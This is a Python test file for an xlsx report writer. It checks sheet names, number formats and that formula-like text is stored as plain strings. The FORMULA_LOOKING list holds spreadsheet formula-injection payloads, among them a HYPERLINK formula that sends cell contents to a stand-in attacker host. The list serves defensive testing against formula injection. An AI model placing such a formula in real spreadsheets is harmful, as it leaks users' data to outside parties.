"""The report as a workbook: its sheets, number formats, and text that is never a formula."""

from __future__ import annotations

from pathlib import Path

import pytest

from twintui.core import reports
from twintui.core.model import Arrangement
from twintui.core.store import Store

from .examples import TODAY, D


def test_xlsx_has_a_sheet_per_table_with_number_formats(report: reports.RegisterReport, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = reports.write(report, tmp_path / "report.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["About", "By state and status", "By activity type", "By area", "By partner type",
                               "Started and ended", "Returns compliance", "Returns by quarter", "Funding",
                               "Progress by state", "Progress by area", "Late milestones", "Spending",
                               "Practices by area", "Practices by activity type"]
    sheet = book["By state and status"]
    assert [c.value for c in sheet[1]] == ["State", "Name", "planned", "active", "completed", "suspended",
                                           "cancelled", "Total"]
    assert [c.value for c in sheet[3]] == ["NOR", "Norway", 0, 1, 1, 0, 0, 2]
    assert sheet["H3"].number_format == "#,##0" and sheet.freeze_panes == "A2"
    assert sheet["A5"].value == "Total" and sheet["A5"].font.b
    compliance = book["Returns compliance"]
    assert compliance["H3"].value == pytest.approx(0.125) and compliance["H3"].number_format == "0.0%"
    funding = book["Funding"]
    assert funding["E3"].value == 1500 and funding["E3"].number_format == "#,##0.00"
    assert book["Started and ended"]["A2"].value == 2020
    practices = book["Practices by area"]
    texts = {row[1]: row for row in practices.iter_rows(min_row=2, values_only=True)}
    assert texts["TW-NOR-0002"][6] == "=1+1 is text"
    # The README lists practices by area *and* by activity type: both are sheets.
    by_type = book["Practices by activity type"]
    assert [c.value for c in by_type[1]] == ["Activity type", "Arrangement ID", "Resettlement areas", "States",
                                             "Quarter", "Best practices", "Lessons learned"]
    rows = [row for row in by_type.iter_rows(min_row=2, values_only=True)]
    assert ("seminar", "TW-NOR-0001", "selection missions", "NOR, SWE", "2026-Q3", "Shadow a <full> mission",
            "Agree indicators first") in rows
    assert {row[0] for row in rows} == {"staff exchange", "seminar", "visit"}

FORMULA_LOOKING = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1 more mission", "-2 days late",
                   "@SUM(A1:A9)", "=1+1"]

def test_text_that_looks_like_a_formula_is_written_as_text(store: Store, tmp_path: Path) -> None:
    """In every kind of sheet (plain rows and formatted ones): a string cell, never a formula."""
    import zipfile

    from openpyxl import load_workbook

    with store.transaction("test") as tx:
        for text in FORMULA_LOOKING:
            tx.save(Arrangement(reporting_state="NOR", title=text, status="active", areas=["housing"],
                                start=D(2025, 1, 1), best_practices=text, lessons_learned=text,
                                funding_source=text, funding_amount=10, currency="NOK"))
    path = reports.write(reports.build(store, today=TODAY), tmp_path / "report.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    book = load_workbook(path)
    cells = {(sheet.title, cell.coordinate): cell for sheet in book for row in sheet.iter_rows() for cell in row
             if cell.value in FORMULA_LOOKING}
    where = {(sheet, cell.value) for (sheet, _), cell in cells.items()}
    for text in FORMULA_LOOKING:
        assert {("Funding", text), ("Practices by area", text)} <= where, text
    assert all(cell.data_type == "s" for cell in cells.values()), {k: c.data_type for k, c in cells.items()}
